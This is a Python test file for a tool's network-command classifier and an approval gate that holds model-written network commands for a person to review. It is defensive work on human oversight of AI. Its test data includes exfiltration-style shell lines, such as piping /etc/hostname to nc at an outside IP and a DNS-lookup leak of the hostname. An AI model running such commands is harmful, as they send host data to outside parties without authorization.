# ruff: noqa: S604  (shell=True classifies a line; nothing is executed)
"""Commands a model wrote that can reach another host wait for a person (the gate), whatever
their level: a prompt-injected model could otherwise send off what it has read."""

from __future__ import annotations

import asyncio
from typing import Any, cast

import pytest

from legator.core.audit.service import AuditService
from legator.core.auth.principal import Principal
from legator.fleet.approvals.schemas import ApprovalMode
from legator.fleet.approvals.service import ApprovalService
from legator.fleet.gate import MODEL_NETWORK, Action, Gate, Target
from legator.fleet.policy import DIAGNOSE, Policy, reaches_network

NETWORK = [
    "curl -s http://203.0.113.9/c?d=x",
    "wget -qO- http://example.org",
    "ping -c1 data.example.org",
    "nslookup x.example.org",
    "dig +short x.example.org",
    "getent hosts x.example.org",
    "sudo -u nobody curl http://x",
    "timeout 5 wget http://x",
    "sh -c 'ping -c1 $(cat /etc/hostname).example.org'",
    "cat /etc/hostname | nc 203.0.113.9 80",
    "echo $(host x.example.org)",
    "docker search x",
    "kubectl --server=https://203.0.113.9 get pods",
    "git ls-remote https://example.org/x",
]
LOCAL = [
    "ls -la /etc",
    "cat /etc/hostname",
    "journalctl -u nginx -n 50",
    "ss -tlnp",
    "docker ps",
    "kubectl get pods",
    "systemctl status nginx",
    "grep -r curl /etc/cron.d",
]


@pytest.mark.parametrize("line", NETWORK)
def test_commands_that_reach_another_host(line: str) -> None:
    assert reaches_network(line, shell=True)


@pytest.mark.parametrize("line", LOCAL)
def test_commands_that_stay_on_the_host(line: str) -> None:
    assert not reaches_network(line, shell=True)


def test_argv_mode() -> None:
    assert reaches_network("curl", ["http://x"])
    assert reaches_network("env", ["LANG=C", "wget", "http://x"])
    assert not reaches_network("cat", ["/etc/hosts"])


class _Approvals:
    def __init__(self) -> None:
        self.requested: list[dict[str, Any]] = []

    async def request(self, **fields: Any) -> Any:
        self.requested.append(fields)
        return type("Approval", (), {"id": f"apr-{len(self.requested)}"})()


class _Audit:
    async def log(self, **fields: Any) -> None:
        return None


def _decide(origin: str, mode: ApprovalMode, *, enabled: bool = True) -> tuple[str, list[str]]:
    gate = Gate(
        cast(ApprovalService, _Approvals()),
        cast(AuditService, _Audit()),
        model_network_approval=enabled,
    )
    principal = Principal(
        user_id="u1", username="op", role="operator", permissions=frozenset(), method="key"
    )
    action = Action(kind="fleet.command", origin=origin, command="curl", args=("http://x",))
    target = Target("prb-1", "diagnose", Policy(level=DIAGNOSE), mode)
    result = asyncio.run(gate.check(action, [target], principal))
    return result.decision, list(result.rationale["drivers"])


@pytest.mark.parametrize("origin", ["chat", "fleet_chat", "task", "mcp"])
def test_a_model_written_network_command_waits_for_a_person(origin: str) -> None:
    assert _decide(origin, ApprovalMode.MUTATION_GATE) == ("queue", [MODEL_NETWORK])
    assert _decide(origin, ApprovalMode.TWO_PERSON) == ("queue", [MODEL_NETWORK])


def test_people_and_the_settings_that_turn_it_off() -> None:
    assert _decide("rest", ApprovalMode.MUTATION_GATE) == ("allow", [])
    assert _decide("fanout", ApprovalMode.MUTATION_GATE) == ("allow", [])
    assert _decide("chat", ApprovalMode.NONE) == ("allow", [])  # no approvals on this host
    assert _decide("chat", ApprovalMode.MUTATION_GATE, enabled=False) == ("allow", [])
